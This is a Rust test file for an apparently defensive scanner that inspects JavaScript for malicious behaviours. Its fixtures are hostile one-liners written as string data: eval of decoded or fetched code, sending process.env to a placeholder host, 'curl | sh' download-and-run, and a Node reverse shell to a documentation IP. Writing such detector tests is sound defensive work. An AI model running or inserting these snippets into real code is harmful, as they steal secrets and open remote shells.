use chainwright_core::limits::Limits;
use chainwright_core::severity::Severity;
use proptest::prelude::*;

use super::inspect;
use crate::facts::BehaviourKind as Kind;

fn worst(source: &str) -> Option<Severity> {
    inspect(source, &Limits::default()).worst()
}

fn kinds(source: &str) -> Vec<Kind> {
    inspect(source, &Limits::default())
        .behaviours
        .iter()
        .map(|each| each.kind)
        .collect()
}

#[test]
fn flows_are_followed() {
    for (source, kind) in [
        ("eval(atob('YWxlcnQoMSk='))", Kind::ExecDecoded),
        (
            "eval(Buffer.from('616c65727428312900', 'hex').toString())",
            Kind::ExecDecoded,
        ),
        (
            "new Function(String.fromCharCode(97,108,101,114,116))()",
            Kind::ExecDecoded,
        ),
        (
            "require('https').get('https://x.example.invalid', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
            Kind::ExecFetched,
        ),
        (
            "fetch('https://x.example.invalid/a').then(r => r.text()).then(t => eval(t))",
            Kind::ExecFetched,
        ),
        (
            "const https = require('node:https'); const r = https.request({hostname:'x.example.invalid', method:'POST'}); r.write(JSON.stringify(process.env)); r.end()",
            Kind::Exfiltration,
        ),
        (
            "import axios from 'axios'; axios.post('https://x.example.invalid', {e: process.env})",
            Kind::Exfiltration,
        ),
        (
            "const {exec} = require('child_process'); exec('curl http://203.0.113.9/a | sh')",
            Kind::DownloadAndRun,
        ),
        ("require('chi' + 'ld_process').exec('x')", Kind::HiddenCall),
        (
            "[]['constructor']['constructor'](atob('YQ=='))()",
            Kind::ExecDecoded,
        ),
        (
            "const n=require('net'),c=require('child_process');const s=c.spawn('/bin/sh',[]);const k=new n.Socket();k.connect(4,'203.0.113.9',()=>{k.pipe(s.stdin)})",
            Kind::ReverseShell,
        ),
    ] {
        assert!(
            kinds(source).contains(&kind),
            "{source}: {:?}",
            kinds(source)
        );
    }
}

#[test]
fn everyday_code_is_quiet() {
    for source in [
        "const x = require('fs').readFileSync('a.json'); module.exports = JSON.parse(x)",
        "function f(url) { return fetch(url, {method: 'POST', body: JSON.stringify({a: 1})}) } module.exports = f",
        "const {execFileSync} = require('child_process'); module.exports = () => execFileSync('git', ['status'])",
        "const g = Function('return this')(); g.x = 1",
        "const r = eval('require'); r('fs')",
        "const {spawnSync} = require('child_process'); spawnSync('node-gyp', ['rebuild'], {stdio: 'inherit'})",
    ] {
        assert!(
            worst(source).is_none_or(|worst| worst < Severity::Medium),
            "{source}: {:?}",
            inspect(source, &Limits::default()).behaviours
        );
    }
}

#[test]
fn deep_nesting_is_cut() {
    for piece in [
        "(",
        "[",
        "{",
        "a=>",
        "`${",
        "!",
        "new ",
        "a?",
        "function(){",
    ] {
        let facts = inspect(&piece.repeat(50_000), &Limits::default());
        assert!(facts.behaviours.len() < 200, "{piece}");
    }
}

#[test]
fn every_truncation_is_read() {
    let source = "const a = `x${b('}')}y`; class C extends D { static #x = /[/]/g; async *m() { await eval(atob(\"YQ==\")) } } export { a as b } from 'c'";
    for end in 0..source.len() {
        inspect(source.get(..end).unwrap_or_default(), &Limits::default());
    }
    assert!(kinds(source).contains(&Kind::ExecDecoded));
}

proptest! {
    #[test]
    fn anything_is_read_the_same_twice(source in "[a-z(){}\\[\\]`$'\"/\\\\=>.,;:!+ 0-9\n]{0,200}") {
        let limits = Limits::default();
        prop_assert_eq!(inspect(&source, &limits), inspect(&source, &limits));
    }
}
